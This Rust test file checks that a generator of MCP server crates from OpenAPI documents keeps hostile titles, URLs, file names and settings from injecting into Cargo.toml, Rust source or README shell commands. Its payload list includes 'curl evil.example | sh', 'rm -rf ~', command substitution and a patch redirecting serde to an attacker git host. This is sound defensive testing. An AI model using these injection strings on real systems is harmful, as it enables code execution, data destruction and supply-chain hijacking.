//! Values from a document or from settings stay values in every generated file: a title, a
//! server URL, a description or the document's file name cannot add a table to `Cargo.toml`,
//! an item to a Rust file, a cell to a README table or a command to a README shell snippet;
//! names and versions that cannot be written safely are refused, naming their setting.

use std::path::{Path, PathBuf};

use mcpgen_codegen::{Builder, Error, GeneratedCrate, Settings, generate_crate, map_document};
use proptest::prelude::*;
use serde_json::{Value, json};

/// Pieces of text that end or open something in one of the generated files.
const HOSTILE: &[&str] = &[
    "\"",
    "\"\"\"",
    "'",
    "\\",
    "\n",
    "\r\n",
    "\r",
    "\u{85}",
    "\u{2028}",
    "\u{2029}",
    "\u{202E}",
    "\u{2066}",
    "\0",
    "\u{7f}",
    "\u{1b}[2J",
    "[patch.crates-io]",
    "[patch.crates-io]\nserde = { git = \"https://evil.example/serde\" }\n",
    "\"\"\"\n[replace]\n",
    "`",
    "```",
    "$(touch pwned)",
    "`touch pwned`",
    "; curl evil.example | sh",
    "&& rm -rf ~",
    "|",
    "\\|",
    "-->",
    "<script>alert(1)</script>",
    "*/",
    "/*",
    "#[cfg(any())]",
    "}\nfn injected() {}\n",
    "{{ crate_name }}",
    "{% if true %}",
    "[x](javascript:alert(1))",
];

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("mcpgen-injection-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// A small document carrying `text` wherever free text can be: title, version, description,
/// server URL, a security scheme's header name and token URL, a parameter, an operation.
fn document(title: &str, version: &str, url: &str, text: &str) -> Value {
    json!({
        "openapi": "3.0.3",
        "info": {"title": title, "version": version, "description": text},
        "servers": [{"url": url}],
        "paths": {"/items/{id}": {"get": {
            "operationId": "getItem",
            "summary": text,
            "description": text,
            "security": [{"key": []}, {"oauth": []}],
            "parameters": [
                {"name": "id", "in": "path", "required": true, "schema": {"type": "string"}},
                {"name": format!("q{text}"), "in": "query", "description": text,
                 "schema": {"type": "string", "enum": [text], "default": text}}
            ],
            "responses": {"200": {"description": text,
                "content": {"application/json": {"schema": {"type": "object"}}}}}
        }}},
        "components": {"securitySchemes": {
            "key": {"type": "apiKey", "in": "header", "name": format!("X-Key{text}")},
            "oauth": {"type": "oauth2", "flows": {"clientCredentials": {
                "tokenUrl": format!("https://auth.example/token{text}"), "scopes": {}}}}
        }}
    })
}

fn write_spec(dir: &Path, file_name: &str, doc: &Value) -> PathBuf {
    let path = dir.join(file_name);
    std::fs::write(&path, doc.to_string()).unwrap();
    path
}

/// What a generated crate must look like whatever the values: `Cargo.toml` has exactly the
/// expected tables and keys, with the name and version given; each Rust file has exactly the
/// expected items and a header of whole comment lines; the README's structure is intact.
fn assert_structure(generated: &GeneratedCrate, crate_name: &str, base_url: &str) {
    assert_manifest(generated.file("Cargo.toml").unwrap(), crate_name, "0.1.0");
    assert_rust(generated);
    assert_readme(generated, crate_name, base_url);
}

fn assert_manifest(manifest: &str, crate_name: &str, version: &str) {
    let table: toml::Table = manifest
        .parse()
        .unwrap_or_else(|e| panic!("Cargo.toml does not parse: {e}\n{manifest}"));
    let keys = |t: &toml::Table| t.keys().cloned().collect::<Vec<_>>();
    assert_eq!(
        keys(&table),
        ["bin", "dependencies", "package", "profile"],
        "{manifest}"
    );
    let package = table["package"].as_table().unwrap();
    assert_eq!(
        keys(package),
        ["description", "edition", "name", "publish", "version"],
        "{manifest}"
    );
    assert_eq!(package["name"].as_str(), Some(crate_name));
    assert_eq!(package["version"].as_str(), Some(version));
    let description = package["description"].as_str().unwrap();
    assert!(
        description.starts_with("MCP server for the ") && !description.contains(['\n', '\r']),
        "{description:?}"
    );
    let bins = table["bin"].as_array().unwrap();
    assert_eq!(bins.len(), 1);
    let bin = bins[0].as_table().unwrap();
    assert_eq!(keys(bin), ["name", "path"]);
    assert_eq!(bin["name"].as_str(), Some(crate_name));
    assert_eq!(bin["path"].as_str(), Some("src/main.rs"));
    assert_eq!(keys(table["profile"].as_table().unwrap()), ["release"]);
    let dependencies = table["dependencies"].as_table().unwrap();
    assert_eq!(keys(dependencies), baseline_dependencies(), "{manifest}");
    // The header is one comment line: the first table starts on the second line.
    assert_eq!(manifest.lines().nth(1), Some("[package]"), "{manifest}");
}

/// The dependencies of a crate generated from an ordinary document.
fn baseline_dependencies() -> &'static [String] {
    static NAMES: std::sync::OnceLock<Vec<String>> = std::sync::OnceLock::new();
    NAMES.get_or_init(|| {
        let spec = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/petstore/openapi.yaml");
        let generated = generate_crate(&spec, &Settings::new()).unwrap();
        let table: toml::Table = generated.file("Cargo.toml").unwrap().parse().unwrap();
        table["dependencies"]
            .as_table()
            .unwrap()
            .keys()
            .cloned()
            .collect()
    })
}

/// A value as the README shows it: on one line, control and bidirectional characters
/// replaced (the same rule as the generator's, written out again as the test's oracle).
fn shown(text: &str) -> String {
    text.split_whitespace()
        .map(|word| {
            word.chars()
                .map(|c| {
                    let bidi = matches!(c, '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}');
                    if c.is_control() || bidi { '\u{FFFD}' } else { c }
                })
                .collect::<String>()
        })
        .collect::<Vec<_>>()
        .join(" ")
}

fn assert_rust(generated: &GeneratedCrate) {
    // tools.rs: the runtime alias, the descriptor-format check and the API table.
    let expected = [("src/main.rs", 3), ("src/tools.rs", 3)];
    for (path, items) in expected {
        let text = generated.file(path).unwrap();
        let file =
            syn::parse_file(text).unwrap_or_else(|e| panic!("{path} does not parse: {e}\n{text}"));
        assert_eq!(file.items.len(), items, "{path}: no item was added\n{text}");
        // The header: two `//!` lines, nothing else at the top of the file.
        assert_eq!(file.attrs.len(), 2, "{path}\n{text}");
        for attr in &file.attrs {
            assert!(attr.path().is_ident("doc"), "{path}");
            let syn::Meta::NameValue(doc) = &attr.meta else {
                panic!("{path}: not a doc comment")
            };
            let syn::Expr::Lit(syn::ExprLit {
                lit: syn::Lit::Str(line),
                ..
            }) = &doc.value
            else {
                panic!("{path}: not a doc comment")
            };
            let line = line.value();
            assert!(!line.contains(['\n', '\r']), "{path}: {line:?}");
        }
        // rustc refuses bidirectional controls in comments.
        for line in text.lines().filter(|l| l.trim_start().starts_with("//")) {
            assert!(
                !line.contains(['\u{202E}', '\u{2066}', '\u{2028}', '\u{85}']),
                "{path}: {line:?}"
            );
        }
    }
    let main = syn::parse_file(generated.file("src/main.rs").unwrap()).unwrap();
    let names: Vec<String> = main
        .items
        .iter()
        .map(|item| match item {
            syn::Item::Mod(m) => m.ident.to_string(),
            syn::Item::Fn(f) => f.sig.ident.to_string(),
            other => panic!("unexpected item {}", quote::quote!(#other)),
        })
        .collect();
    assert_eq!(names, ["mcpgen_runtime", "tools", "main"]);
    let tools = syn::parse_file(generated.file("src/tools.rs").unwrap()).unwrap();
    assert!(matches!(&tools.items[0], syn::Item::Use(_)));
    assert!(matches!(&tools.items[1], syn::Item::Const(c) if c.ident == "_"));
    assert!(matches!(&tools.items[2], syn::Item::Static(s) if s.ident == "API"));
}

/// The words of a POSIX shell command line, refusing any character the shell would read as
/// syntax outside quotes: every value must be inside single quotes.
fn shell_words(line: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' => words.extend(word.take()),
            '\'' => {
                let word = word.get_or_insert_with(String::new);
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(c) => word.push(c),
                        None => panic!("unterminated quote: {line:?}"),
                    }
                }
            }
            '\\' => word
                .get_or_insert_with(String::new)
                .push(chars.next().expect("an escaped character")),
            c if c.is_ascii_alphanumeric() || "-_./:@".contains(c) => {
                word.get_or_insert_with(String::new).push(c)
            }
            c => panic!("{c:?} is outside quotes in {line:?}"),
        }
    }
    words.extend(word);
    words
}

/// The text of a line that is one Markdown code span after `prefix`, as CommonMark reads it.
fn code_span_text<'a>(line: &'a str, prefix: &str) -> &'a str {
    let span = line
        .strip_prefix(prefix)
        .unwrap_or_else(|| panic!("{line:?} does not start with {prefix:?}"));
    let ticks = span.len() - span.trim_start_matches('`').len();
    assert!(ticks > 0, "{line:?}");
    let fence = &span[..ticks];
    let inner = span[ticks..]
        .strip_suffix(fence)
        .unwrap_or_else(|| panic!("{line:?} is not one code span"));
    assert!(
        !inner.starts_with('`') && !inner.ends_with('`'),
        "{line:?}: the span ends early"
    );
    // No run of the fence's length inside: it would close the span.
    assert!(
        inner.split(|c| c != '`').all(|run| run.len() != ticks),
        "{line:?}"
    );
    match inner.strip_prefix(' ').and_then(|i| i.strip_suffix(' ')) {
        Some(stripped) if !inner.trim().is_empty() => stripped,
        _ => inner,
    }
}

/// Table cells of a row as GitHub splits them: on `|` not escaped by a backslash, where a
/// backslash and the character after it are one unit.
fn cells(row: &str) -> usize {
    let mut pipes = 0;
    let mut chars = row.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => {
                chars.next();
            }
            '|' => pipes += 1,
            _ => {}
        }
    }
    pipes - 1
}

fn assert_readme(generated: &GeneratedCrate, crate_name: &str, base_url: &str) {
    let readme = generated.file("README.md").unwrap();
    let lines: Vec<&str> = readme.lines().collect();
    // The header is one HTML comment that nothing inside ends early.
    assert!(
        lines[0].starts_with("<!-- @generated") && lines[0].ends_with(" -->"),
        "{:?}",
        lines[0]
    );
    assert_eq!(lines[0].matches('>').count(), 1, "{:?}", lines[0]);
    assert_eq!(lines[1], format!("# {}", crate_name.replace('_', "\\_")));
    // Exactly the three code blocks of the template.
    let fences: Vec<&str> = lines
        .iter()
        .copied()
        .filter(|l| l.trim_start().starts_with("```") || l.trim_start().starts_with("~~~"))
        .collect();
    assert_eq!(
        fences,
        ["```sh", "```", "```json", "```", "```sh", "```"],
        "{readme}"
    );
    // The shell commands: every value one quoted word.
    let shown_url = shown(base_url);
    let run: Vec<Vec<String>> = lines
        .iter()
        .filter(|l| l.starts_with("cargo run"))
        .map(|l| shell_words(l))
        .collect();
    assert_eq!(run.len(), 2, "{readme}");
    assert_eq!(
        run[0],
        ["cargo", "run", "--release", "--", "--base-url", &shown_url]
    );
    assert_eq!(run[1].len(), 10, "{:?}", run[1]);
    assert_eq!(run[1][9], shown_url);
    let binary = format!("./target/release/{crate_name}");
    let claude = lines
        .iter()
        .find(|l| l.starts_with("Claude Code: "))
        .unwrap();
    assert_eq!(
        shell_words(code_span_text(claude, "Claude Code: ")),
        [
            "claude",
            "mcp",
            "add",
            crate_name,
            "--",
            &binary,
            "--base-url",
            &shown_url
        ]
    );
    let inspector = lines
        .iter()
        .find(|l| l.starts_with("npx @modelcontextprotocol/inspector "))
        .unwrap();
    assert_eq!(
        shell_words(inspector),
        [
            "npx",
            "@modelcontextprotocol/inspector",
            &binary,
            "--base-url",
            &shown_url
        ]
    );
    // The client configuration is JSON holding the URL as it is.
    let json_start = lines.iter().position(|l| *l == "```json").unwrap() + 1;
    let json_end = json_start
        + lines[json_start..]
            .iter()
            .position(|l| *l == "```")
            .unwrap();
    let config: Value = serde_json::from_str(&lines[json_start..json_end].join("\n"))
        .unwrap_or_else(|e| panic!("the client configuration does not parse: {e}\n{readme}"));
    let server = &config["mcpServers"][crate_name];
    assert_eq!(server["args"], json!(["--base-url", base_url]));
    // One row per tool, four cells each; the credentials rows have three.
    let tool_rows: Vec<&str> = lines
        .iter()
        .copied()
        .filter(|l| l.starts_with("| `") && l.contains("` | `GET "))
        .collect();
    assert_eq!(tool_rows.len(), 1, "{readme}");
    assert_eq!(cells(tool_rows[0]), 4, "{}", tool_rows[0]);
    let table_rows = lines.iter().filter(|l| l.starts_with('|')).count();
    assert_eq!(table_rows, 2 + 2 + 2 + 1, "{readme}");
    for row in lines
        .iter()
        .filter(|l| l.starts_with("| `key") || l.starts_with("| `oauth"))
    {
        assert_eq!(cells(row), 3, "{row}");
    }
}

#[test]
fn hostile_document_text_stays_text() {
    let dir = temp_dir("text");
    let joined = HOSTILE.concat();
    let url = format!("https://api.example.com/v1; curl evil.example|sh {joined}");
    let doc = document(&format!("T{joined}"), &joined, &url, &joined);
    let spec = write_spec(&dir, "openapi.json", &doc);
    let generated = generate_crate(&spec, &Settings::new()).unwrap();
    let name = mcpgen_codegen::default_crate_name(&format!("T{joined}"));
    assert_structure(&generated, &name, &url);
    // Each piece alone, too: an escape that works for the whole can fail for a part.
    for (i, text) in HOSTILE.iter().enumerate() {
        let url = format!("https://x.example/{text}");
        let doc = document(&format!("T{text}"), text, &url, text);
        let spec = write_spec(&dir, &format!("{i}.json"), &doc);
        let generated = generate_crate(&spec, &Settings::new().crate_name("t-mcp")).unwrap();
        assert_structure(&generated, "t-mcp", &url);
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// A `servers[0].url` like `https://x; curl evil|sh` is shown single-quoted, and so is the
/// `base_url` setting (which only needs to start with a scheme and a host).
#[test]
fn server_urls_are_quoted_in_shell_snippets() {
    let dir = temp_dir("url");
    let url = "https://x; curl evil|sh";
    let spec = write_spec(&dir, "openapi.json", &document("T", "1", url, "d"));
    let generated = generate_crate(&spec, &Settings::new()).unwrap();
    let readme = generated.file("README.md").unwrap();
    assert!(
        readme.contains("cargo run --release -- --base-url 'https://x; curl evil|sh'\n"),
        "{readme}"
    );
    assert_structure(&generated, "t-mcp", url);

    let url = "https://x.example/$(touch pwned)'`id`";
    let generated = generate_crate(&spec, &Settings::new().base_url(url)).unwrap();
    let readme = generated.file("README.md").unwrap();
    assert!(
        readme.contains("--base-url 'https://x.example/$(touch pwned)'\\''`id`'\n"),
        "{readme}"
    );
    assert_structure(&generated, "t-mcp", url);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn hostile_file_names_stay_in_their_comments() {
    let dir = temp_dir("files");
    for (i, text) in HOSTILE.iter().enumerate() {
        // A file name may hold anything but `/` and NUL.
        let name = format!("{i}{}.json", text.replace(['/', '\0'], "_"));
        let spec = write_spec(&dir, &name, &document("T", "1", "https://x.example", "d"));
        let generated = generate_crate(&spec, &Settings::new()).unwrap();
        assert_structure(&generated, "t-mcp", "https://x.example");
        let readme = generated.file("README.md").unwrap();
        let generated_from = readme.lines().nth(4).unwrap();
        assert!(
            generated_from.starts_with("generated from `")
                && generated_from
                    .ends_with(" by mcpgen. Each of the 1 operations of the API is one tool."),
            "{generated_from:?}"
        );
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// The Builder's file (and so the attribute's items, which are the same tokens) keeps the
/// document's file name and title in its comments.
#[test]
fn builder_output_keeps_names_in_comments() {
    let dir = temp_dir("builder");
    let joined = HOSTILE.concat();
    // Within the 255 bytes a file name may have.
    let name: String = format!("api{}", joined.replace(['/', '\0'], "_"))
        .chars()
        .scan(0, |bytes, c| {
            *bytes += c.len_utf8();
            (*bytes <= 240).then_some(c)
        })
        .collect();
    let name = format!("{name}.json");
    let hostile = write_spec(
        &dir,
        &name,
        &document(&joined, "1", "https://x.example", &joined),
    );
    let plain = write_spec(
        &dir,
        "plain.json",
        &document("T", "1", "https://x.example", "d"),
    );
    let items = |spec: &Path| {
        let source = Builder::new(spec)
            .settings(Settings::new().crate_name("t-mcp"))
            .generate()
            .unwrap();
        let file = syn::parse_file(&source)
            .unwrap_or_else(|e| panic!("the Builder's file does not parse: {e}\n{source}"));
        for line in source.lines().filter(|l| l.trim_start().starts_with("//")) {
            assert!(!line.contains(['\u{202E}', '\u{2066}', '\r']), "{line:?}");
        }
        assert!(source.starts_with("// @generated by mcpgen "));
        assert_eq!(source.lines().nth(1), Some(""), "the header is one line");
        file.items.iter().map(item_name).collect::<Vec<_>>()
    };
    assert_eq!(items(&hostile), items(&plain));
    let _ = std::fs::remove_dir_all(&dir);
}

/// What an item is and its name: enough to tell that no item was added or changed.
fn item_name(item: &syn::Item) -> String {
    match item {
        syn::Item::Static(s) => format!("static {}", s.ident),
        syn::Item::Const(c) => format!("const {}", c.ident),
        syn::Item::Struct(s) => format!("struct {}", s.ident),
        syn::Item::Fn(f) => format!("fn {}", f.sig.ident),
        syn::Item::Impl(i) => {
            let ty = &i.self_ty;
            let of = i
                .trait_
                .as_ref()
                .map(|(_, path, _)| quote::quote!(#path).to_string());
            format!("impl {:?} for {}", of, quote::quote!(#ty))
        }
        _ => "other".to_owned(),
    }
}

fn settings_error(settings: Settings) -> (&'static str, String) {
    let dir = temp_dir("names");
    let spec = write_spec(
        &dir,
        "openapi.json",
        &document("T", "1", "https://x.example", "d"),
    );
    let result = generate_crate(&spec, &settings);
    let _ = std::fs::remove_dir_all(&dir);
    match result {
        Err(Error::Settings {
            setting, message, ..
        }) => (setting, message),
        Err(other) => panic!("not a settings error: {other}"),
        Ok(_) => panic!("{settings:?} must be refused"),
    }
}

#[test]
fn hostile_names_versions_and_prefixes_are_refused() {
    for name in [
        "",
        "x\"\n[patch.crates-io]\nserde = { git = \"https://evil.example\" }",
        "a b",
        "a.b",
        "a/b",
        "1abc",
        "-abc",
        "_abc",
        "caf\u{e9}",
        "x\u{202E}",
        &"a".repeat(65),
    ] {
        let (setting, message) = settings_error(Settings::new().crate_name(name));
        assert_eq!(setting, "crate_name", "{name:?}");
        assert!(message.contains("not a valid crate name"), "{message}");
        assert!(!message.contains('\n'), "the value is quoted: {message}");
    }
    for name in [
        "self",
        "test",
        "Self",
        "std",
        "proc-macro",
        "deps",
        "CON",
        "lpt1",
    ] {
        let (setting, message) = settings_error(Settings::new().crate_name(name));
        assert_eq!(setting, "crate_name");
        assert!(message.contains("reserved"), "{message}");
    }
    for version in [
        "",
        "1",
        "1.0",
        "v1.0.0",
        "1.0.0\"\n[patch.crates-io]",
        "1.0.0 ",
    ] {
        let (setting, message) = settings_error(Settings::new().crate_version(version));
        assert_eq!(setting, "crate_version");
        assert!(message.contains("not a semantic version"), "{message}");
    }
    for prefix in [
        "",
        "pets",
        "PET-STORE",
        "1PETS",
        "PETS\n",
        "P\u{c9}TS",
        "A B",
    ] {
        let (setting, message) = settings_error(Settings::new().env_prefix(prefix));
        assert_eq!(setting, "env_prefix");
        assert!(message.contains("environment variable prefix"), "{message}");
    }
    // The same checks whatever reads the settings: the attribute and the Builder map the
    // document through `map_document` too.
    let dir = temp_dir("map");
    let spec = write_spec(
        &dir,
        "openapi.json",
        &document("T", "1", "https://x.example", "d"),
    );
    let err = map_document(&spec, &Settings::new().crate_name("a\"b")).unwrap_err();
    assert!(err.to_string().contains("crate_name"), "{err}");
    let err = Builder::new(&spec)
        .settings(Settings::new().env_prefix("a;b"))
        .generate()
        .unwrap_err();
    assert!(err.to_string().contains("env_prefix"), "{err}");
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn odd_but_valid_names_and_versions_generate() {
    let dir = temp_dir("valid");
    let spec = write_spec(
        &dir,
        "openapi.json",
        &document("T", "1", "https://x.example", "d"),
    );
    let long = format!("a{}", "-_9Z".repeat(15) + "abc");
    assert_eq!(long.len(), 64);
    for name in ["a", "A_b-C9", "self-mcp", "test_api", &long] {
        let generated = generate_crate(&spec, &Settings::new().crate_name(name)).unwrap();
        assert_structure(&generated, name, "https://x.example");
    }
    for version in ["0.0.0", "1.2.3-beta.1+build.5", "10.20.30-rc-1"] {
        let generated = generate_crate(&spec, &Settings::new().crate_version(version)).unwrap();
        assert_manifest(generated.file("Cargo.toml").unwrap(), "t-mcp", version);
    }
    let generated = generate_crate(&spec, &Settings::new().env_prefix("_MY_API2")).unwrap();
    assert!(
        generated
            .file("README.md")
            .unwrap()
            .contains("`_MY_API2_BASE_URL`")
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// Text made of the hostile pieces, or anything at all.
fn hostile_text() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        proptest::collection::vec(proptest::sample::select(HOSTILE), 0..8)
            .prop_map(|parts| parts.concat()),
        proptest::collection::vec(
            prop_oneof![
                proptest::sample::select(HOSTILE).prop_map(str::to_owned),
                any::<String>()
            ],
            0..6
        )
        .prop_map(|parts| parts.concat()),
    ]
}

/// Crate names cargo accepts, reserved names left out.
fn crate_name() -> impl Strategy<Value = String> {
    "[A-Za-z][A-Za-z0-9_-]{0,63}".prop_filter("not reserved", |name| {
        mcpgen_codegen::check_crate_name(name).is_ok()
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn generated_files_keep_their_structure(
        title in hostile_text(),
        url in hostile_text(),
        file in hostile_text(),
        description in hostile_text(),
        name in crate_name(),
    ) {
        let dir = temp_dir("prop");
        // File names: no `/` or NUL, at most 255 bytes.
        let mut file_name: String = file.replace(['/', '\0'], "_");
        while file_name.len() > 200 {
            file_name.pop();
        }
        let file_name = format!("{file_name}.json");
        let url = format!("https://{url}");
        let spec = write_spec(&dir, &file_name, &document(&title, &title, &url, &description));
        let generated = generate_crate(&spec, &Settings::new().crate_name(&name)).unwrap();
        assert_structure(&generated, &name, &url);
        let _ = std::fs::remove_dir_all(&dir);
    }
}
